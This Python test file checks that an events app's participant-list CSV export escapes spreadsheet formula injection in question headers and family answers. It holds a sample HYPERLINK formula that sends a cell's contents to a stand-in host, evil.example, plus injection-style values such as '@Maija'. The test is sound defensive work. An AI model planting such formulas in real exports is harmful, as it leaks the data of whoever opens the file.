"""The participant list's CSV export runs no formula in a spreadsheet: not in the families'
cells and not in the header, where the organiser's question texts are."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from perhekeskus.events import selectors
from perhekeskus.events.models import Question
from perhekeskus.events.services import signup_create
from perhekeskus.events.tests.helpers import NOW, family, make_event
from perhekeskus.events.views.pro.participants import participants_csv

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A2;"Klikkaa")'


def test_no_cell_of_the_export_is_a_formula(organization: Any, editor: Any) -> None:
    event = make_event(organization=organization)
    question = Question.objects.create(
        event=event, text_fi=FORMULA, text_sv=FORMULA, text_en=FORMULA
    )
    signup_create(
        event_id=event.pk,
        data=family(1, name="@Maija", answers={f"q_{question.pk}": "-1+1"}),
        now=NOW,
    )
    shown, rows = selectors.participant_list(actor=editor, event_id=event.pk, export=True)
    table = list(
        csv.reader(io.StringIO(participants_csv(shown, rows).lstrip("\ufeff")), delimiter=";")
    )
    cells = [cell for line in table for cell in line]
    assert f"'{FORMULA}" in table[0]
    assert "'@Maija" in table[1] and "'-1+1" in table[1]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
